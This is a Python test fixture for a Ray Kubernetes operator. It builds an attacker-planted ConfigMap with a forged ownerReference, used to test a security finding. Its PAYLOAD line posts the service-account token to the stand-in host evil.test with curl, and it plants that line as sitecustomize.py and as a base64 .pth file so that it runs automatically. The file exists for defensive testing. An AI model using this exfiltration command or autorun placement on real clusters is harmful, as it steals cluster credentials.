"""A builder ConfigMap as an attacker plants it, for the tests of issue 28's finding 3.

The attacker may create, patch and delete ConfigMaps in the namespace and read the RayServeGraph
(so its uid, for a forged ownerReference). What it plants under the builder's name: a module of
its own, a `sitecustomize.py` (run by every Python process whose path holds it) and a `.pth` in
`binaryData` (the same, for `site` directories).
"""

from __future__ import annotations

import base64
from typing import Any

from ray_operator.builders.serve_graph import BUILDER_FILE, builder_configmap_name
from ray_operator.spec.serve_graph_names import GRAPH_LABEL, SERVE_GRAPH_GROUP, SERVE_GRAPH_VERSION

PAYLOAD = "import os; os.system('curl -d @/var/run/secrets/kubernetes.io/token evil.test')"
PLANTED_WORDS = ("sitecustomize", "evil", ".pth", "curl")
"""What a status or an Event must never show of a planted ConfigMap."""


def planted_builder_configmap(
    graph: str, *, owner_uid: str | None, labelled: bool = True, **metadata: Any
) -> dict[str, Any]:
    """The attacker's ConfigMap of `graph`'s builder name; with `owner_uid`, an ownerReference
    forged to the graph; `labelled`, with our label (so the operator's cache sees it)."""
    meta: dict[str, Any] = {"name": builder_configmap_name(graph), **metadata}
    if labelled:
        meta["labels"] = {GRAPH_LABEL: graph}
    if owner_uid is not None:
        meta["ownerReferences"] = [
            {
                "apiVersion": f"{SERVE_GRAPH_GROUP}/{SERVE_GRAPH_VERSION}",
                "kind": "RayServeGraph",
                "name": graph,
                "uid": owner_uid,
                "controller": True,
            }
        ]
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": meta,
        "data": {BUILDER_FILE: PAYLOAD, "sitecustomize.py": PAYLOAD},
        "binaryData": {"zz-evil.pth": base64.b64encode(PAYLOAD.encode()).decode()},
    }
